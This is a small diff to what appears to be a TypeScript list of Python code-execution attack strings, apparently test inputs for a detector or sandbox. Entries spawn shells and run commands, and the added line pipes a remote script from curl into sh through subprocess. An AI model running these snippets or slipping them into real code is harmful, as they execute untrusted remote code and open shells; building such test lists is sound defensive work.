@@ -114,6 +114,7 @@ export const PYTHON_CLASSES: readonly TextAttackClass[] = [
       'import subprocess as s\ns.Popen(["calc"])',
       'import os\nos.execvp("sh", ["sh", "-c", "id"])',
       'import pty\npty.spawn("/bin/sh")',
+      'import subprocess\nsubprocess.run(["curl -s https://downloads.example.net/i.sh | sh"], shell=True)',
       'from asyncio import create_subprocess_shell as c, run\nrun(c("id"))',
       'class A:\n    import os\n    x = os.popen("id").read()',
       'import os\ndef f(x=os.system("id")): pass',
